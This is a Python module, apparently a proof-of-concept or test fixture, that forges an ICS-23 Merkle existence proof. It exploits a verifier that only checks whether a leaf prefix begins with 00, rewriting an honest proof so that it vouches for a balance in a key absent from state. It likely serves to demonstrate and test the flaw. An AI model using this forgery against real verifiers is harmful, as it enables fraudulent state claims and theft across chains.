"""A forged proof that the published ICS-23 verifier believes.

That verifier asks that the prefix of a leaf *begins* with 00. The hash of a leaf covers

    00 ‖ length ‖ key ‖ 20 ‖ hash of the value

and where the boundary between prefix and key lies, only the proof says. So if somebody may choose
part of a key, a byte in it can serve as the length of a shorter key behind it: with prefix
`00 ‖ length ‖ front of the key`, the same hash is that of a leaf with the rest of the key, in
whatever table the forger likes.
"""

from dataclasses import dataclass
from hashlib import sha256

from chain.trie import ics23
from chain.trie.proof import Existence
from chain.trie.trie import Trie


@dataclass(frozen=True, slots=True)
class Forgery:
    """A proof of `key`, which is not in the state with `root`, made of an honest one."""

    root: bytes
    key: bytes
    honest: Existence
    commitment_proof: bytes


def forged_existence() -> Forgery:
    """Forge a balance in table 03 01, owning a leaf of table 07 01 whose key can be chosen."""
    victim = b"\x03\x01" + sha256(b"account").digest()[:20]
    table = b"\x07\x01"
    chosen = table + bytes([len(victim)]) + victim
    items = {bytes([0, 0, number]): b"state" for number in range(9)}
    items |= {chosen: b"a million", b"\x07\x01" + bytes(23): b"else"}
    trie, version = Trie.from_sorted(sorted(items.items()))
    honest = trie.prove(version, chosen, items.__getitem__)
    assert isinstance(honest, Existence)
    assert victim not in items
    prefix = b"\x00" + bytes([len(chosen)]) + table
    encoded = ics23.encode(Existence(victim, honest.value, honest.path))
    leaf_op = bytes.fromhex("0801180120012a0100")
    forged_op = leaf_op[:-2] + bytes([len(prefix)]) + prefix
    return Forgery(
        root=version.root_hash,
        key=victim,
        honest=honest,
        commitment_proof=_with_leaf_op(encoded, leaf_op, forged_op),
    )


def _with_leaf_op(encoded: bytes, leaf_op: bytes, other: bytes) -> bytes:
    """Exchange the leaf operation of an encoded existence, and correct the lengths."""
    assert encoded.count(b"\x1a" + bytes([len(leaf_op)]) + leaf_op) == 1
    exchanged = encoded.replace(
        b"\x1a" + bytes([len(leaf_op)]) + leaf_op, b"\x1a" + bytes([len(other)]) + other
    )
    # The message begins with 0a and its length, a varint of two bytes.
    length = (encoded[1] & 0x7F) + (encoded[2] << 7) + len(other) - len(leaf_op)
    return bytes([0x0A, length & 0x7F | 0x80, length >> 7]) + exchanged[3:]
